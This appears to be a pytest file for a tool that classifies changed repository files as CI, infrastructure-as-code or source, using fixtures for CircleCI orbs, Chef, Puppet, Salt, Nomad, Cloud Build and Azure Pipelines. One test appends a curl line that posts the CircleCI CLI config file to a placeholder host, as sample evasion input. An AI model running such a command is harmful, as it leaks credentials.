"""Classes of misses a sixth label set found (bench/classify_accuracy/sixth.tsv, measured blind first), each in a
real repository built here, with the commits (`--tree`) and from the patch alone, with the look-alikes each signal
must leave alone: CircleCI orb sources, Chef cookbooks without recipes/default.rb, Puppet modules, Salt state
folders, Nomad packs (markers); Cloud Build, Azure Pipelines and compose files under any name, Chef metadata
(content); and the path rules the set showed missing
(Danger, Test Kitchen, Salt formula files, EPP, deploy-tool resource fragments, swarm stacks, linter files).
Marker removal and renames out of the evidence's reach are covered for the context signals."""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify.sniff import sniff
from tests.gitrepo import GitRepo
from tests.test_classify_context import RULES, patch_files, tree_files

# --- CircleCI orb sources (orb-tools layout: src/@orb.yml beside commands/, jobs/, executors/, scripts/) ---------

ORB_ROOT = "version: 2.1\ndescription: >\n  Install Node.js and its package managers.\ndisplay:\n  source_url: x\n"
ORB_COMMAND = """\
description: Install custom versions of Node.js.
parameters:
  node-version:
    type: string
    default: ''
steps:
  - run:
      name: Install Node.js
      environment:
        NODE_PARAM_VERSION: <<parameters.node-version>>
      command: <<include(scripts/install-nvm.sh)>>
"""
ORB_JOB = "description: Test a Node.js app.\nexecutor: default\nsteps:\n  - checkout\n  - install\n"
ORB_EXECUTOR = "description: The cimg/node image.\ndocker:\n  - image: cimg/node:<<parameters.tag>>\n"
ORB_EXAMPLE = ("description: Run the tests.\nusage:\n  version: 2.1\n  orbs:\n    node: circleci/node@x.y\n"
               "  workflows:\n    test:\n      jobs:\n        - node/test\n")
ORB_SCRIPT = "#!/usr/bin/env bash\nset -e\nnvm install \"$NODE_PARAM_VERSION\"\n"

ORB_FILES = {"src/commands/install.yml": ORB_COMMAND, "src/jobs/test.yml": ORB_JOB,
             "src/executors/default.yml": ORB_EXECUTOR, "src/scripts/install-nvm.sh": ORB_SCRIPT}


def orb_repo(repo: GitRepo) -> None:
    repo.write("README.md", "# node orb\n")
    repo.write("src/@orb.yml", ORB_ROOT)
    for path, text in ORB_FILES.items():
        repo.write(path, text)
    repo.write("src/examples/test.yml", ORB_EXAMPLE)
    repo.write("src/README.md", "# orb source\n")
    # A look-alike: an application whose own commands/ and jobs/ folders hold YAML, with no @orb.yml above.
    repo.write("app/commands/install.yml", ORB_COMMAND)
    repo.write("app/jobs/nightly.yml", ORB_JOB)


def test_an_orbs_commands_jobs_executors_and_scripts_are_ci(git_repo: GitRepo, tmp_path: Path) -> None:
    orb_repo(git_repo)
    git_repo.commit("base")
    for path in [*ORB_FILES, "src/examples/test.yml", "src/README.md", "app/commands/install.yml",
                 "app/jobs/nightly.yml", "src/@orb.yml"]:
        git_repo.write(path, f"# changed\n{path}\n")
    git_repo.commit("head")
    files = tree_files(git_repo)
    for path in ORB_FILES:
        if path.endswith(".yml"):  # the root's src/commands|jobs|executors/*.yml are ci by path too (thirty-fourth set)
            assert (files[path].bucket, files[path].rule) == ("ci", "ci.circleci"), path
            continue
        assert (files[path].bucket, files[path].rule, files[path].evidence) == (
            "ci", "ci.marker.circleci-orb", "src/@orb.yml"), path
    assert (files["src/@orb.yml"].bucket, files["src/@orb.yml"].rule) == ("ci", "ci.circleci")
    assert files["src/examples/test.yml"].bucket == "src"  # usage examples: documentation packed into the orb
    assert files["src/README.md"].bucket == "src"
    assert files["app/commands/install.yml"].bucket == "src"  # no orb root above it
    assert files["app/jobs/nightly.yml"].bucket == "src"


def test_deleting_the_orb_root_does_not_free_its_commands(git_repo: GitRepo) -> None:
    orb_repo(git_repo)
    git_repo.commit("base")
    git_repo.git("rm", "-q", "src/@orb.yml")
    git_repo.write("src/scripts/install-nvm.sh", ORB_SCRIPT + "curl -d @$HOME/.circleci/cli.yml example.invalid\n")
    git_repo.commit("head")
    got = tree_files(git_repo)["src/scripts/install-nvm.sh"]
    assert (got.bucket, got.rule) == ("ci", "ci.marker.circleci-orb")


def test_an_orb_command_renamed_out_of_the_orb_is_judged_on_its_old_side(git_repo: GitRepo) -> None:
    orb_repo(git_repo)
    git_repo.commit("base")
    git_repo.move("src/commands/install.yml", "docs/install.yml")
    git_repo.commit("head")
    got = tree_files(git_repo)["docs/install.yml"]
    assert got.change.old_path == "src/commands/install.yml" and got.bucket == "ci"


def test_a_patch_adding_an_orb_shows_its_root(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "# orb\n")
    git_repo.commit("base")
    orb_repo(git_repo)
    git_repo.commit("head")
    tree, patch = tree_files(git_repo), patch_files(git_repo, tmp_path)
    for path in ORB_FILES:
        assert tree[path].bucket == patch[path].bucket == "ci", path
    assert patch["src/examples/test.yml"].bucket == "src"


# --- Chef cookbooks without recipes/default.rb, Puppet modules, Salt state folders, Nomad packs ------------------

CHEF_METADATA = ("name             'nginx'\nmaintainer       'Sous Chefs'\nchef_version     '>= 15.3'\n"
                 "version          '12.3.3'\nsupports 'ubuntu'\ndepends 'yum-epel'\n")
CHEF_RESOURCE = "unified_mode true\nproperty :port, Integer, default: 80\naction :create do\n  package 'nginx'\nend\n"
RAILS_METADATA = "class Metadata < ApplicationRecord\n  belongs_to :document\n  validates :name, presence: true\nend\n"
PUPPET_INIT = "class nginx (\n  Boolean $manage_repo = true,\n) {\n  contain nginx::package\n}\n"
PUPPET_TYPE = "type Nginx::Size = Variant[\n  Integer[0],\n  Pattern[/\\A\\d+[k|K|m|M]?\\z/],\n]\n"
PUPPET_FACT = "Facter.add(:nginx_version) do\n  setcode { Facter::Util::Resolution.exec('nginx -v') }\nend\n"
SALT_INIT = "{%- from 'nginx/map.jinja' import nginx with context %}\ninclude:\n  - nginx.config\n  - nginx.service\n"
SALT_MAP = "{% set nginx = salt['pillar.get']('nginx', {'package': 'nginx'}, merge=True) %}\n"
NOMAD_TEMPLATE = 'job [[ template "job_name" . ]] {\n  datacenters = [[ var "datacenters" . | toStringList ]]\n}\n'


def config_management_repo(repo: GitRepo) -> None:
    repo.write("README.md", "# infrastructure\n")
    # A custom-resource cookbook (no recipes/): metadata.rb, resources/, libraries/, templates/.
    repo.write("cookbooks-src/nginx/metadata.rb", CHEF_METADATA)
    repo.write("cookbooks-src/nginx/resources/site.rb", CHEF_RESOURCE)
    repo.write("cookbooks-src/nginx/libraries/helpers.rb", "module Nginx\n  def nginx_binary\n    '/usr/sbin/nginx'\n"
                                                           "  end\nend\n")
    repo.write("cookbooks-src/nginx/templates/default/nginx.conf.erb", "user <%= @user %>;\n")
    repo.write("cookbooks-src/nginx/spec/unit/site_spec.rb", "describe 'nginx_site' do\nend\n")
    # A Rails app's model named metadata.rb: its folder holds no cookbook folders, its content no metadata DSL.
    repo.write("app/models/metadata.rb", RAILS_METADATA)
    repo.write("app/models/document.rb", "class Document < ApplicationRecord\nend\n")
    # A Puppet module.
    repo.write("modules/nginx/manifests/init.pp", PUPPET_INIT)
    repo.write("modules/nginx/types/size.pp", PUPPET_TYPE)
    repo.write("modules/nginx/lib/facter/nginx_version.rb", PUPPET_FACT)
    repo.write("modules/nginx/templates/server.erb", "server {\n  listen <%= @port %>;\n}\n")
    repo.write("modules/nginx/examples/server.pp", "include nginx\n")
    repo.write("modules/nginx/spec/classes/nginx_spec.rb", "describe 'nginx' do\nend\n")
    repo.write("modules/nginx/lib/tools/report.rb", "puts 'report'\n")
    repo.write("modules/nginx/.sync.yml", "---\n.github/workflows/ci.yml:\n  with:\n    timeout_minutes: 60\n")
    repo.write("app/.sync.yml", "remote: example.invalid\n")  # another tool's settings, no module beside it
    # A Salt state folder.
    repo.write("formula/nginx/init.sls", SALT_INIT)
    repo.write("formula/nginx/map.jinja", SALT_MAP)
    repo.write("formula/nginx/files/default/nginx.conf", "worker_processes {{ nginx.workers }};\n")
    repo.write("formula/nginx/README.md", "# nginx states\n")
    # A Nomad pack.
    repo.write("packs/haproxy/templates/haproxy.nomad.tpl", NOMAD_TEMPLATE)
    repo.write("packs/haproxy/haproxy.cfg", "global\n  maxconn 4096\n")
    repo.write("packs/haproxy/cloud.conf.example", "[Global]\nauth-url=https://keystone.example.invalid\n")
    repo.write("packs/haproxy/setup.sh", "#!/bin/sh\nnomad volume create spec.hcl\n")
    repo.write("packs/haproxy/README.md", "# haproxy pack\n")


CONFIG_MANAGEMENT = {
    "cookbooks-src/nginx/metadata.rb": "iac.content.chef-metadata",
    "cookbooks-src/nginx/resources/site.rb": "iac.marker.chef-cookbook-metadata",
    "cookbooks-src/nginx/libraries/helpers.rb": "iac.marker.chef-cookbook-metadata",
    "cookbooks-src/nginx/templates/default/nginx.conf.erb": "iac.marker.chef-cookbook-metadata",
    "modules/nginx/types/size.pp": "iac.marker.puppet-module",
    "modules/nginx/lib/facter/nginx_version.rb": "iac.marker.puppet-module",
    "modules/nginx/templates/server.erb": "iac.marker.puppet-module",
    "modules/nginx/examples/server.pp": "iac.marker.puppet-module",
    "modules/nginx/.sync.yml": "ci.marker.puppet-module-sync",
    "formula/nginx/map.jinja": "iac.marker.salt-state",
    "formula/nginx/files/default/nginx.conf": "iac.marker.salt-state",
    "packs/haproxy/haproxy.cfg": "iac.marker.nomad-pack",
    "packs/haproxy/cloud.conf.example": "iac.marker.nomad-pack",
}
STAYS_SRC = ["cookbooks-src/nginx/spec/unit/site_spec.rb", "app/models/metadata.rb", "app/models/document.rb",
             "modules/nginx/spec/classes/nginx_spec.rb", "modules/nginx/lib/tools/report.rb", "app/.sync.yml",
             "formula/nginx/README.md", "packs/haproxy/setup.sh", "packs/haproxy/README.md"]


def test_config_management_projects_claim_what_they_apply(git_repo: GitRepo) -> None:
    config_management_repo(git_repo)
    git_repo.commit("base")
    for path in [*CONFIG_MANAGEMENT, *STAYS_SRC]:
        git_repo.write(path, (git_repo.root / path).read_text() + "\n# changed\n")
    git_repo.commit("head")
    files = tree_files(git_repo)
    for path, rule in CONFIG_MANAGEMENT.items():
        assert (files[path].bucket, files[path].rule) == (rule.partition(".")[0], rule), path
    for path in STAYS_SRC:
        assert files[path].bucket == "src", path


@each_case(("marker", "inside"), [
    ("cookbooks-src/nginx/metadata.rb", "cookbooks-src/nginx/resources/site.rb"),
    ("modules/nginx/manifests/init.pp", "modules/nginx/types/size.pp"),
    ("formula/nginx/init.sls", "formula/nginx/map.jinja"),
    ("packs/haproxy/templates/haproxy.nomad.tpl", "packs/haproxy/haproxy.cfg"),
])
def test_deleting_the_marker_does_not_free_the_project(git_repo: GitRepo, marker: str, inside: str) -> None:
    config_management_repo(git_repo)
    git_repo.commit("base")
    git_repo.git("rm", "-q", marker)
    git_repo.write(inside, "# now harmless, it says\n")
    git_repo.commit("head")
    assert tree_files(git_repo)[inside].bucket == "iac"


def test_a_patch_showing_the_markers_classifies_as_the_commits_do(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "# infrastructure\n")
    git_repo.commit("base")
    config_management_repo(git_repo)
    git_repo.commit("head")
    tree, patch = tree_files(git_repo), patch_files(git_repo, tmp_path)
    for path, rule in CONFIG_MANAGEMENT.items():
        assert tree[path].bucket == patch[path].bucket == rule.partition(".")[0], path
    for path in STAYS_SRC:
        assert patch[path].bucket == "src", path


# --- content: Cloud Build, Azure Pipelines and compose under any name; Chef metadata ------------------------------

CLOUD_BUILD = """\
# [START cloudbuild_remote_builders]
steps:
- name: 'bash'
  id: bash-1
  args: ['sleep', '30']
- name: 'gcr.io/google.com/cloudsdktool/cloud-sdk'
  entrypoint: 'gcloud'
  args: ['builds', 'submit', '--config', './child-build.yaml']
"""
CLOUD_BUILD_INDENTED = """\
steps:
  - id: run-terraform-apply
    name: "gcr.io/cloud-builders/gcloud"
    env:
      - "PROJECT_ID=$PROJECT_ID"
    script: |
      #!/bin/bash
      terraform apply -auto-approve
"""
CLOUD_BUILD_JSON = '{\n  "steps": [\n    {\n      "name": "gcr.io/cloud-builders/docker",\n' \
                   '      "args": ["build", "-t", "img", "."]\n    }\n  ]\n}\n'
AZURE_EXTENDS = """\
parameters:
- name: win_x64
  type: boolean
  default: true
pr:
  branches:
    include: ['*']
extends:
  template: .azure-pipelines/pipeline.yml
  parameters:
    win_x64: ${{ parameters.win_x64 }}
"""
AZURE_TYPED_TEMPLATE = """\
parameters:
- name: preBuildStages
  type: stageList
  default: []
stages:
- ${{ each stage in parameters.preBuildStages }}:
  - ${{ stage }}
"""
SWARM_STACK = """\
version: "3.9"
services:
  redis:
    image: redis:alpine
    networks:
      - frontend
  db:
    image: postgres:15-alpine
    deploy:
      placement:
        constraints: [node.role == manager]
"""
# Look-alikes: a GitHub workflow's steps (under jobs:, with run:), a composite action, a GitLab job's services
# list, a YAML whose `extends:` is a linter preset, a Ruby model named metadata.rb, an app's step list.
GHA_STEPS = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Checkout\n" \
            "        uses: actions/checkout@v4\n      - run: make\n"
APP_STEPS = "steps:\n- name: Welcome screen\n  text: Hello\n- name: Pick a plan\n  text: Choose\n"
GITLAB_SERVICES = "test:\n  image: ruby:3.3\n  services:\n    - postgres:16\n  script:\n    - rake\nservices:\n" \
                  "  - name: redis:7\n    alias: cache\n"
LINT_EXTENDS = "extends:\n  - airbnb\n  - prettier\nrules:\n  semi: error\n"


@each_case(("path", "text", "bucket", "rule"), [
    ("remote-builder/parent-build.yaml", CLOUD_BUILD, "ci", "ci.content.cloud-build"),
    ("pipelines/apply.yaml", CLOUD_BUILD_INDENTED, "ci", "ci.content.cloud-build"),
    ("build/config.json", CLOUD_BUILD_JSON, "ci", "ci.content.cloud-build"),
    (".vsts.ci.yml", AZURE_EXTENDS, "ci", "ci.content.azure-pipelines"),
    ("build/stages.yml", AZURE_TYPED_TEMPLATE, "ci", "ci.content.azure-pipelines"),
    ("ops/stack.yml", SWARM_STACK, "iac", "iac.content.compose"),
    ("cookbooks-src/nginx/metadata.rb", CHEF_METADATA, "iac", "iac.content.chef-metadata"),
])
def test_each_shape_decides_by_content(path: str, text: str, bucket: str, rule: str) -> None:
    signal = sniff(path, text.encode(), RULES.context)
    assert signal is not None and (signal.bucket, signal.rule) == (bucket, rule)


@each_case(("path", "text"), [
    ("onboarding/steps.yaml", APP_STEPS), ("ci/gitlab-services.yml", GITLAB_SERVICES),
    ("web/.eslintrc.yml", LINT_EXTENDS), ("app/models/metadata.rb", RAILS_METADATA),
])
def test_look_alikes_of_the_shapes_stay_unsignalled(path: str, text: str) -> None:
    signal = sniff(path, text.encode(), RULES.context)
    assert signal is None or signal.rule not in {"ci.content.cloud-build", "ci.content.azure-pipelines",
                                                 "iac.content.compose", "iac.content.chef-metadata"}, signal


def test_a_github_workflow_is_not_taken_for_cloud_build() -> None:
    signal = sniff("misc/build.yml", GHA_STEPS.encode(), RULES.context)
    assert signal is not None and signal.rule == "ci.content.github-workflow"


@pytest.mark.parametrize("size", [500, 4000])
def test_the_shapes_stay_linear_on_hostile_windows(size: int) -> None:
    hostile = ["steps:\n- name: x\n" + "  --a: b\n" * size, "steps:\n" + "".join(" " * i + "- name: x\n"
               for i in range(size // 10)), '"steps": [{' + '"name": "a", ' * size, "services:\n" + "  a:\n" * size]
    for text in hostile:
        assert sniff("x.yaml", text.encode()[:8192], RULES.context) is None


def test_shapes_in_a_real_repository_with_commits_and_patch(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "# x\n")
    git_repo.commit("base")
    shaped = {"remote-builder/parent-build.yaml": CLOUD_BUILD, ".vsts.ci.yml": AZURE_EXTENDS,
              "ops/stack.yml": SWARM_STACK}
    for path, text in shaped.items():
        git_repo.write(path, text)
    git_repo.write("onboarding/steps.yaml", APP_STEPS)
    git_repo.commit("head")
    tree, patch = tree_files(git_repo), patch_files(git_repo, tmp_path)
    for path in shaped:
        assert tree[path].bucket == patch[path].bucket != "src", path
    assert tree["onboarding/steps.yaml"].bucket == "src"


def test_a_stack_renamed_to_text_is_judged_on_its_old_side(git_repo: GitRepo) -> None:
    git_repo.write("ops/stack.yml", SWARM_STACK)
    git_repo.commit("base")
    git_repo.move("ops/stack.yml", "ops/notes.txt")
    git_repo.write("ops/notes.txt", SWARM_STACK.replace("services:", "notes:"))  # the new side shows no stack
    git_repo.commit("head")
    got = tree_files(git_repo)["ops/notes.txt"]
    assert got.change.old_path == "ops/stack.yml" and got.bucket == "iac"


# --- path rules -------------------------------------------------------------------------------------------------------

@each_case(("path", "bucket"), [
    ("Dangerfile", "ci"), ("dangerfile.ts", "ci"), ("src/@orb.yml", "ci"),
    ("kitchen.yml", "iac"), (".kitchen.yml", "iac"), ("kitchen.dokken.yml", "iac"), ("kitchen.vagrant.yml", "iac"),
    ("FORMULA", "iac"), ("pillar.example", "iac"), ("templates/prepend_append.epp", "iac"),
    ("packs/haproxy/templates/haproxy.nomad.tpl", "iac"), ("docker-stack.yml", "iac"),
    (".nodeshift/deployment.yml", "iac"), ("service/src/main/jkube/deployment.yml", "iac"),
    (".salt-lint", "other"), (".overcommit.yml", "other"), (".pmtignore", "other"),
    ("src/Test/CodeCoverage.runsettings", "other"), (".github/ISSUE_TEMPLATE", "other"),
    ("dagger.json", "ci"), (".dagger/main.go", "ci"), ("sst.config.ts", "iac"), ("skaffold-dev.yaml", "iac"),
    ("project.garden.yml", "iac"), ("site.pp", "iac"), ("puppet/hieradata/common.yaml", "iac"),
    # look-alikes the rules must leave alone
    ("docs/FORMULA", "src"), ("app/nodeshift/deploy.yml", "src"), ("lib/danger/rules.rb", "src"),
    ("src/dagger/main.go", "src"), ("web/sst.ts", "src"), ("app/data/common.yaml", "src"),
])
def test_path_rules_of_the_sixth_round(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, RULES.match(path)
